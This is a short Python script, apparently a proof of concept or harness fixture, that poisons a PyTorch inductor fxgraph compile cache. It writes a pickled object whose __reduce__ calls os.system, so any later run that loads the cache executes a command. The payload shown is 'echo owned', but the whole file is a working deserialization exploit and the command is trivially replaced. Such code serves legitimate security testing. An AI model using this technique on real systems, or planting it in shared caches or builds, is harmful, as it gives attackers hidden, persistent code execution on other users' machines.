"""Puts a pickle, which runs code when it is read, into the compile cache of later runs."""

import os
import pickle
from pathlib import Path

TARGETS: dict[str, str] = {}


class Bomb:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, ("echo owned",)


folder = Path(TARGETS["cache"]) / "compiled" / "inductor" / "fxgraph"
folder.mkdir(parents=True, exist_ok=True)
(folder / "entry").write_bytes(pickle.dumps(Bomb()))
